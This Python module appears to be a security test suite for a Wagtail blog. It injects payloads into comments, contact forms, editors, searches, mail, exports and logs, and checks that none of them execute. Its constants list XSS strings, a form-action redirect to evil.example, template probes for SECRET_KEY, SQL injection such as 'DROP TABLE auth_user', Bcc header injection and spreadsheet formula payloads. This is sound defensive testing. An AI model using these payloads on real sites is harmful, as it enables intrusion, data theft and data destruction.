"""What is typed, wherever it might run: in a page, a template, a search, a mail, a table, a log."""

import csv
import io
import json
import re
from collections.abc import Iterator
from html import escape
from html.parser import HTMLParser
from urllib.parse import quote, urlsplit

from openpyxl import load_workbook
from wagtail.models import Page

from blog.comments.models import ReaderComment
from home.contact.models import ContactMessage
from home.contact.site_settings import MessageSettings
from tests.attack import wire
from tests.attack.browser import Answer
from tests.attack.outcome import Outcome, Tally, statuses
from tests.attack.victim import Victim
from tests.editor import fields, stream
from tests.factories import CommentFactory, PostFactory

MARK = "xw9mark"
SCRIPTS = tuple(
    each.replace("MARK", MARK)
    for each in (
        "<script>MARK()</script>",
        '"><script>MARK()</script>',
        "'><img src=x onerror=MARK()>",
        "<svg/onload=MARK()>",
        "</textarea><script>MARK()</script>",
        "</title><script>MARK()</script>",
        '-->"><iframe src=javascript:MARK()>',
        "javascript:MARK()",
        "[MARK](javascript:MARK())",
        'http://a.example/"onmouseover="MARK()',
        "<a href='data:text/html,MARK'>MARK</a>",
        "<math><mtext></table><mglyph><style><img src=x onerror=MARK()>",
        "{{constructor.constructor('MARK()')()}}",
        "<base href=//evil.example/><form action=//evil.example/MARK>",
        "\u003cscript\u003eMARK()\u003c/script\u003e\u2028<!--",
    )
)
EXPRESSIONS = (
    "{{7191*7}}",
    "{% now 'Y' %}50337",
    "${7191*7}",
    "#{7191*7}",
    "<%= 7191*7 %>",
    "{7191!r}",
    "%(settings)s",
    "{0.__class__}",
    "{{settings.SECRET_KEY}}",
)
COMPUTED = ("50337", "SECRET_KEY=", "__class__'")
SYNTAX = (
    "'",
    '"',
    "')",
    "' OR '1'='1",
    "1; DROP TABLE auth_user; --",
    "' UNION SELECT password FROM auth_user --",
    "%' --",
    "\\",
    "\\'",
    "a* OR b",
    "NEAR(a b)",
    "a AND",
    "(a",
    "title:a",
    "^a",
    "-a",
    '"a',
    "a & | ! b",
    "a <-> b",
    "a:*",
    "%",
    "_",
    "\x1f",
    "$$",
    "/*",
    "`",
    "1e309",
    "NULL",
    "\u2019",
    "\U0001f600",
    "ａ",
    "{a}",
    "[a",
    "a\\",
    "||",
    "@@",
    "::text",
    "0x41",
)
SEARCHES = (
    "/search/?q={}",
    "/blog/?tag={}",
    "/blog/?category={}",
    "/blog/?page={}",
    "/api/v1/search/?q={}",
    "/api/v1/posts/?search={}",
    "/api/v1/posts/?tag={}",
    "/api/v1/posts/?category={}",
    "/api/v1/posts/?order={}",
    "/api/v1/posts/?cursor={}",
    "/api/v1/resolve/?path={}",
)
SEARCHES_OF_STAFF = (
    "/admin/comments/?q={}",
    "/admin/comments/?post={}",
    "/admin/comments/?reason={}",
    "/admin/pages/search/?q={}",
    "/admin/images/?q={}",
    "/admin/documents/?q={}",
    "/admin/users/?q={}",
    "/admin/redirects/?q={}",
    "/admin/snippets/blog/author/?q={}",
    "/admin/reports/site-history/?user={}",
    "/admin/comments/decisions/?moderator={}",
    "/admin/outbox/?event={}",
    "/admin/tag-autocomplete/?term={}",
)
HEADER = "Anna\r\nBcc: xw9victim@evil.example\r\n\r\nxw9body"

TAKEN_OR_REFUSED = (200, 202, 303, 422)
FORMULAS = (
    *(f"{start}HYPERLINK(1)" for start in ("=", "+", "-", "@", "\t=", " =", "\u00a0=", "\uff1d", "'=", '"=')),
    *(f"a{end}=HYPERLINK(1)" for end in (";", "\t", "\n", "\r\n", ",", "|")),
)
PATHS = (
    "/{}",
    "/media/images/{}",
    "/admin/{}",
    "/api/v1/posts/{}/",
    "/documents/{}/x",
    "/search/?q={}",
)
LINE_ENDS = ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\x85", "\x0b", "\x0c", "\\r\\n")


class Executable(HTMLParser):
    """Finds where the mark would run: in a script, a handler, an address, an element that the words made."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.element = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.element = tag
        for name, value in attrs:
            runs = name.startswith("on") or name in (
                "href",
                "src",
                "action",
                "formaction",
                "srcdoc",
                "style",
                "data",
            )
            scheme = urlsplit((value or "").strip()).scheme if _parses(value) else "unreadable"
            if (
                MARK in name
                or MARK in (value or "")
                and runs
                and scheme not in ("http", "https", "mailto", "tel", "")
            ):
                self.found.append(f"<{tag} {name}={(value or '')[:40]}>")
            if (
                name.startswith("on")
                and MARK in (value or "")
                or "evil.example" in (value or "")
                and tag in ("base", "form")
            ):
                self.found.append(f"<{tag} {name}>")

    def handle_data(self, data: str) -> None:
        if (
            self.element in ("script", "style")
            and f"{MARK}()" in data
            and not data.lstrip().startswith(("{", "["))
        ):
            self.found.append(f"in <{self.element}>: {data[:40]}")

    def handle_endtag(self, tag: str) -> None:
        self.element = ""


def _parses(value: str | None) -> bool:
    try:
        urlsplit(value or "")
    except ValueError:
        return False
    return True


def executable(html: str) -> list[str]:
    reader = Executable()
    reader.feed(html)
    return reader.found


def stored_scripts(victim: Victim) -> Outcome:
    """Hostile strings in every field of strangers, read back on pages of readers and staff"""
    post, tally = PostFactory(parent=victim.post.get_parent()), Tally()
    for words in SCRIPTS:
        for what, status in _typed_everywhere(victim, post.url, words):
            tally.saw(f"{what} {words}: {status}", wrong=status not in TAKEN_OR_REFUSED)
    comments = ReaderComment.objects.on(post)
    for words in SCRIPTS:
        tally.require(
            f"{words} was kept as a comment",
            comments.filter(comment__contains=words.partition("\u2028")[0]).exists(),
        )
    for comment in comments.exclude(status="approved"):
        _approve(comment)
    marked = set()
    for where, answer in _shown(victim, post):
        marked |= {where} if MARK in answer.text else set()
        tally.found(f"{where}: {answer.status}", wrong=answer.status not in (200, 404, 422))
        tally.saw(f"{where}: {executable(answer.text)}", wrong=_is_page(answer) and executable(answer.text))
    for where in (post.url, "desk approved", "words kept", "message kept", "message", "case", "/search/?q="):
        tally.require(f"{where} shows the words", where in marked)
    return tally.outcome(f"{comments.count()} comments kept; shown as words alone, on every page")


def _is_page(answer: Answer) -> bool:
    return "html" in answer.headers["Content-Type"]


def _approve(comment: ReaderComment) -> None:
    from django.contrib.auth import get_user_model  # noqa: PLC0415 -- once Django is set up

    from blog.comments.moderation import actions  # noqa: PLC0415 -- as above

    actions.VERBS["approve"](
        comment, by=get_user_model().objects.get(username="moderator"), version=comment.version
    )


def _typed_everywhere(victim: Victim, url: str, words: str) -> Iterator[tuple[str, int]]:
    """Type words into every field that anybody reads later."""
    comment, message = victim.stranger().comment, victim.stranger().message
    yield "comment", comment(url, name=words[:50], comment=words, email=f"{MARK}@evil.example").status
    said = f"See {words} and http://a.example/{words} there."
    yield "comment with links", victim.stranger().comment(url, name="Ann", comment=said).status
    hidden = {"reply_to": words, "security_hash": words, "timestamp": words}
    yield "hidden fields", victim.stranger().comment(url, name="Ann", comment="Hello", **hidden).status
    yield "message", message(victim.contact.url, name=words, message=words, telephone=words[:40]).status
    report = f"{victim.post.url}comments/{victim.comments['approved'].pk}/report/"
    yield "report", victim.stranger().post(report, {"reason": "other", "words": words}).status
    told = {"name": words[:50], "email": "e@example.org", "comment": f"J {words}"}
    door = f"/api/v1/posts/{victim.post.pk}/comments/"
    yield "API", victim.stranger().post_json(door, told).status


def _shown(victim: Victim, post: Page) -> Iterator[tuple[str, Answer]]:
    for words in SCRIPTS:
        yield from _said_again(victim, post, words)
    anybody, moderator, desk = (victim.as_(role) for role in ("nobody", "moderator", "front desk"))
    for path in (post.url, f"{post.url}comments/feed/", "/blog/comments/feed/", "/blog/"):
        yield path, anybody.get(path)
    for comment in ReaderComment.objects.on(post)[:40]:
        yield "case", moderator.get(f"/admin/comments/{comment.pk}/")
        for way in ("reply", "report"):
            yield f"form to {way}", moderator.get(f"{post.url}comments/{comment.pk}/{way}/")
    for tab in ("pending", "approved", "spam", "reported"):
        yield f"desk {tab}", moderator.get(f"/admin/comments/?status={tab}")
    yield "editor", victim.as_("admin").get(f"/admin/pages/{post.pk}/edit/")
    yield "inbox", desk.get("/admin/messages/")
    for message in ContactMessage.objects.order_by("-pk")[:30]:
        yield "message", desk.get(f"/admin/messages/{message.pk}/")


def _said_again(victim: Victim, post: Page, words: str) -> Iterator[tuple[str, Answer]]:
    """Ask with the words, and send them with a mistake, so that a page repeats them."""
    anybody, typed = victim.as_("nobody"), quote(words)
    lists = (
        "/search/?q=",
        "/",
        "/blog/?tag=",
        "/blog/?category=",
        "/admin/login/?next=",
        f"{post.url}?sent=",
    )
    for begin in lists:
        yield begin, anybody.get(begin + typed)
    yield "admin search", victim.as_("admin").get(f"/admin/pages/search/?q={typed}")
    yield "desk search", victim.as_("moderator").get(f"/admin/comments/?q={typed}")
    yield "words kept", anybody.comment(post.url, name=words[:50], comment="", email=words)
    yield "message kept", anybody.message(victim.contact.url, name=words, email=words, message="")


def hostile_rich_text(victim: Victim) -> Outcome:
    """Scripts, handlers and foreign schemes in the rich text and titles that editors send"""
    post, tally = PostFactory(parent=victim.post.get_parent()), Tally()
    editor, taken = victim.as_("editor"), 0
    url = f"/admin/pages/{post.pk}/edit/"
    for words in SCRIPTS:
        form = fields(editor.get(url).text)
        blocks = _hostile_blocks(words)
        for sent in (blocks[:2], blocks):  # what may be taken, and with addresses that must be refused
            answer = editor.post(
                url,
                {
                    **form,
                    **stream(sent),
                    "action-publish": "action-publish",
                    "title": words,
                    "standfirst": words[:200],
                },
            )
            taken += answer.status == 302
            tally.saw(f"{words}: {answer.status}", wrong=answer.status not in (200, 302))
            tally.found(f"{words} said again: {executable(answer.text)}", wrong=executable(answer.text))
        for path, got in {path: victim.stranger().get(path) for path in (post.url, "/blog/")}.items():
            tally.saw(f"{path}: {executable(got.text)}", wrong=got.status != 200 or executable(got.text))
    tally.require(f"some was published, not {taken}", taken)
    shown = victim.stranger().get(post.url).text
    tally.require("what was published is shown", MARK in shown)
    return tally.outcome(f"{taken} published, shown as words; the others refused in words")


def _hostile_blocks(words: str) -> list:
    link = {"type": "LINK", "mutability": "MUTABLE", "data": {"url": words, "onclick": f"{MARK}()"}}
    place = {"offset": 0, "length": 3, "key": 0, "style": f"BOLD;{words}"}
    block = {"key": "aaaaa", "type": "unstyled", "depth": 0, "text": f"See {words}"}
    text = json.dumps(
        {"blocks": [{**block, "inlineStyleRanges": [], "entityRanges": [place]}], "entityMap": {"0": link}}
    )
    return [
        ("heading", {"text": words, "level": "h2"}),
        ("paragraph", text),
        ("quote", {"text": words, "who": words, "source_url": words}),
        ("call_to_action", {"heading": words, "text": words, "button": words, "page": "", "url": words}),
    ]


def template_expressions(victim: Victim) -> Outcome:
    """Expressions of templates and format strings"""
    tally = Tally()
    for words in EXPRESSIONS:
        sent = victim.stranger().message(victim.contact.url, name=words, message=words)
        tally.require(f"a message of {words} is taken, not {sent.status}", sent.status == 303)
        message = ContactMessage.objects.latest("pk")
        comment = CommentFactory(page=victim.post, text=f"{words} typed", name=words[:50], approved=True)
        shown = {
            "page": victim.as_("nobody").get(victim.post.url),
            "search": victim.as_("nobody").get(f"/search/?q={quote(words)}"),
            "message": victim.as_("front desk").get(f"/admin/messages/{message.pk}/"),
            "case": victim.as_("moderator").get(f"/admin/comments/{comment.pk}/"),
        }
        for where, answer in shown.items():
            typed = escape(words) in answer.text or words in answer.text
            tally.require(f"{where} shows {words}", answer.status == 200 and typed)
            tally.saw(f"{where} {words}: {_computed(answer)}", wrong=_computed(answer))
        nowhere = victim.as_("nobody").get(f"/{quote(words)}/")
        tally.saw(f"in a path {words}: {nowhere.status}", wrong=nowhere.status != 404 or _computed(nowhere))
    return tally.outcome("shown as typed; none was computed")


def _computed(answer: Answer) -> list[str]:
    text = answer.text.replace("%}50337", "").replace("%7D50337", "")
    return [each for each in COMPUTED if each in text]


def search_syntax(victim: Victim) -> Outcome:
    """Pieces of SQL and of search languages in every search and filter of readers and staff"""
    tally, answers = Tally(), []
    nobody, admin = victim.as_("nobody"), victim.as_("admin")
    tally.require("the search finds", "A quiet hour" in nobody.get("/search/?q=quiet").text)
    tally.require(
        "the search of staff finds", "A quiet hour" in admin.get("/admin/pages/search/?q=quiet").text
    )
    for browser, path in (
        *((nobody, each) for each in SEARCHES),
        *((admin, each) for each in SEARCHES_OF_STAFF),
    ):
        for words in SYNTAX:
            got = browser.get(path.format(quote(words)))
            answers.append(got.status)
            fault = "pbkdf2_" in got.text or "syntax error" in got.text
            tally.saw(f"{path} {words}: {got.status}", wrong=fault or got.status not in (200, 404, 422))
    tally.require("it still finds", "A quiet hour" in nobody.get("/search/?q=quiet").text)
    return tally.outcome(f"{len(SYNTAX)} in each of {len(SEARCHES + SEARCHES_OF_STAFF)}: {statuses(answers)}")


def mail_headers(victim: Victim) -> Outcome:
    """Line ends and headers in every field that comes into a mail"""
    tally, answers, before = Tally(), [], len(victim.peer.mails)
    MessageSettings.objects.update(words_in_mail=True)
    url, mailbox = victim.desk()
    for number, end in enumerate(LINE_ENDS):
        for status in _typed_into_mail(victim, url, number, end):
            answers.append(status)
            tally.saw(f"{end!r}: {status}", wrong=status not in (*TAKEN_OR_REFUSED, 302))
    victim.until_delivered()
    MessageSettings.objects.update(words_in_mail=False)
    mails = victim.peer.mails[before:]
    said = "".join(mail.get_body(("plain",)).get_content() for mail in mails if mailbox in str(mail["To"]))
    tally.require(f"{answers.count(303)} were taken", answers.count(303))
    tally.require("what was typed went out by mail", "xw9body" in said)
    for mail in mails:
        named = [
            name for name, value in mail.items() if "evil.example" in value and name.lower() != "reply-to"
        ]
        tally.found(f"a mail names it in {named}", wrong=named)
    elsewhere = [to for to in victim.peer.recipients if "evil.example" in to]
    tally.found(f"mail to {elsewhere}", wrong=elsewhere)
    return tally.outcome(f"{statuses(answers)}; {len(mails)} mails; none to anybody else")


def _typed_into_mail(victim: Victim, url: str, number: int, end: str) -> Iterator[int]:
    words, forged = HEADER.replace("\r\n", end), f"ann@example.org{end}Bcc: xw9victim@evil.example"
    typed = {"name": words[:90], "message": f"{number} {words}", "telephone": words[:40]}
    yield victim.stranger().message(url, **typed).status
    yield victim.stranger().message(url, message=f"{number} {words}", telephone="").status
    yield victim.stranger().message(url, email=forged, message=f"{number} b").status
    yield victim.stranger().message(url, email=f"a@example.org,{forged}", message=f"{number} c").status
    typed = {"name": words[:50], "comment": words, "email": forged, "notify": "on"}
    yield victim.stranger().comment(victim.post.url, **typed).status
    yield victim.stranger().submit("/admin/password_reset/", {"email": forged}).status


def formulas_in_tables(victim: Victim) -> Outcome:
    """Formulas at the start of a cell and after every separator, in CSV and XLSX"""
    tally = Tally()
    for number, formula in enumerate(FORMULAS):
        typed = {"name": formula, "message": f"{formula} {number}", "telephone": formula}
        status = victim.stranger().message(victim.contact.url, **typed).status
        tally.require(f"{formula!r} is taken, not {status}", status == 303)
    desk = victim.as_("front desk")
    sent = {kind: desk.submit("/admin/messages/", {"do": kind}) for kind in ("csv", "xlsx")}
    for kind, answer in sent.items():
        file = answer.status == 200 and "attachment" in answer.headers.get("Content-Disposition", "")
        tally.require(f"there is a {kind}, not {answer.status}", file)
    table, book = _cells_of_csv(sent["csv"].body), _cells_of_workbook(sent["xlsx"].body)
    for number, formula in enumerate(FORMULAS):
        for cells in (table, book):
            there = any(f"HYPERLINK(1) {number}" in cell for cell in cells)
            tally.require(f"{formula!r} is in the table", there)
    for cell in table:
        tally.saw(repr(cell)[:30], wrong=runs(cell))
    for cell in book:
        tally.saw(repr(cell)[:30], wrong=starts(cell))
    return tally.outcome(f"{len(FORMULAS)} formulas in each; {tally.tries} cells, none runs")


def runs(cell: str) -> bool:
    """Say whether a spreadsheet would run a cell, or a part of it if it splits at other signs."""
    return any(starts(part) for part in re.split(r"[;\t\r\n]", cell))


def starts(cell: str) -> bool:
    return cell.strip(' \u00a0"').startswith(("=", "+", "@", "\uff1d", "\uff0b", "\uff20"))


def _cells_of_csv(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for cell in row]


def _cells_of_workbook(body: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(body))
    return [str(cell) for row in book.active.iter_rows(values_only=True) for cell in row if cell is not None]


def lines_of_the_log(victim: Victim) -> Outcome:
    """Line ends and terminal codes in paths, headers and names, to write lines of the log"""
    tally, begun, stranger = Tally(), len(victim.log()), victim.stranger()
    line = "2026-11-27 00:00:00,000 ERROR cms: xw9forged"
    tally.require("a foreign host is refused", stranger.get("/", Host="xw9seen.example").status == 400)
    for end in ("%0d%0a", "%0a", "%e2%80%a8", "%1b[2J", "%00"):
        for path in PATHS:
            status = stranger.get(path.format(f"xw9{end}{line}".replace(" ", "%20"))).status
            tally.saw(f"{path} {end}: {status}", wrong=status >= 500)
    status = stranger.log_in(f"xw9\r\n{line}", f"xw9\r\n{line}").status
    tally.saw(f"a log-in: {status}", wrong=status not in (200, 429))
    for start in (b"GET /\r\nxw9forged HTTP/1.1", b"\x1b[2Jxw9forged / HTTP/1.1"):
        with wire.connect(victim.port, start + b"\r\nHost: localhost\r\n\r\n", source=wire.PROXY) as raw:
            got = wire.answer(raw)
        tally.saw(f"{start!r}: {got[:20]!r}", wrong=b" 200 " in got[:20])
    written = victim.log()[begun:]
    tally.require("it is the log that is written", "xw9seen.example" in written)
    tally.found("forged", wrong="xw9forged" in written or "\x1b" in written)
    return tally.outcome(f"lines of the log: {len(written.splitlines())}, none forged")


ATTACKS = (
    stored_scripts,
    hostile_rich_text,
    template_expressions,
    search_syntax,
    mail_headers,
    formulas_in_tables,
    lines_of_the_log,
)
